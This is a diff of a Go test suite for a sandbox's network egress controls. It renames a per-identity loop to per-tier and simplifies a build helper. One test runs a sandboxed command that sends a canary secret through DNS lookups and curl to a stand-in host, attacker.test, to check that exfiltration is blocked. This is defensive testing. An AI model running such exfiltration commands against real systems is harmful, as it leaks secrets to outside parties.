@@ -60,7 +60,7 @@ func countingDNS(t *testing.T) (addr string, queries *atomic.Int64) {
 func TestEgressAllowlist(t *testing.T) {
 	requireTool(t, "curl")
 	requireTool(t, "python3")
-	forEachIdentity(t, func(t *testing.T, h *harness) {
+	forEachTier(t, func(t *testing.T, h *harness) {
 		port := upstream(t, h.canary)
 		want := "UPSTREAM-" + h.canary
 		pol := fmt.Sprintf("network:\n  allow:\n    - {host: pkg.test, ports: [%d]}\n  hosts: {pkg.test: 127.0.0.1, other.test: 127.0.0.1}\n", port)
@@ -131,7 +131,7 @@ func TestEgressAllowlist(t *testing.T) {
 func TestEgressDeniedPaths(t *testing.T) {
 	requireTool(t, "curl")
 	requireTool(t, "python3")
-	forEachIdentity(t, func(t *testing.T, h *harness) {
+	forEachTier(t, func(t *testing.T, h *harness) {
 		port := upstream(t, h.canary)
 		want := "UPSTREAM-" + h.canary
 		pol := fmt.Sprintf("network:\n  allow:\n    - {host: pkg.test, ports: [%d]}\n  hosts: {pkg.test: 127.0.0.1}\n", port)
@@ -179,7 +179,7 @@ except OSError as e: print("refused", e)
 // inside and never reaches the upstream resolver; an allowed name is resolved upstream (the control).
 func TestDNSExfiltrationCarriesNothing(t *testing.T) {
 	requireTool(t, "curl")
-	forEachIdentity(t, func(t *testing.T, h *harness) {
+	forEachTier(t, func(t *testing.T, h *harness) {
 		addr, queries := countingDNS(t)
 		pol := fmt.Sprintf("network:\n  allow: [allowed.test]\n  dns: {upstream: [%q]}\n", addr)
 		r := h.sandboxed(pol, "getent hosts secret-"+h.canary+".attacker.test; curl -sS -m 5 https://secret2-"+h.canary+".attacker.test/ 2>&1; true")
@@ -207,7 +207,7 @@ func TestDNSExfiltrationCarriesNothing(t *testing.T) {
 func TestEgressTLSAndResolution(t *testing.T) {
 	requireTool(t, "curl")
 	requireTool(t, "python3")
-	forEachIdentity(t, func(t *testing.T, h *harness) {
+	forEachTier(t, func(t *testing.T, h *harness) {
 		srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 			fmt.Fprintf(w, "TLS-%s\n", h.canary)
 		}))
@@ -246,7 +246,7 @@ func TestEgressGitSmartHTTP(t *testing.T) {
 	if err != nil {
 		t.Skipf("git --exec-path: %v", err)
 	}
-	forEachIdentity(t, func(t *testing.T, h *harness) {
+	forEachTier(t, func(t *testing.T, h *harness) {
 		root := t.TempDir()
 		gitEnv := []string{"GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null", "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t"}
 		setup := exec.Command("sh", "-ec", `git init -q --bare -b main repo.git && git -C repo.git config http.receivepack true
@@ -389,19 +389,5 @@ for fam, proto, dst, typ in ((socket.AF_INET, socket.IPPROTO_ICMP, "1.1.1.1", 8)
 // a workspace.
 func buildGoClient(t *testing.T) []byte {
 	t.Helper()
-	src := filepath.Join(t.TempDir(), "main.go")
-	if err := os.WriteFile(src, []byte(goClientSource), 0o644); err != nil {
-		t.Fatal(err)
-	}
-	bin := filepath.Join(t.TempDir(), "goclient")
-	build := exec.Command("go", "build", "-o", bin, src)
-	build.Env = append(os.Environ(), "CGO_ENABLED=0", "GO111MODULE=off")
-	if out, err := build.CombinedOutput(); err != nil {
-		t.Fatalf("building the Go client: %v\n%s", err, out)
-	}
-	client, err := os.ReadFile(bin)
-	if err != nil {
-		t.Fatal(err)
-	}
-	return client
+	return buildProgram(t, goClientSource)
 }
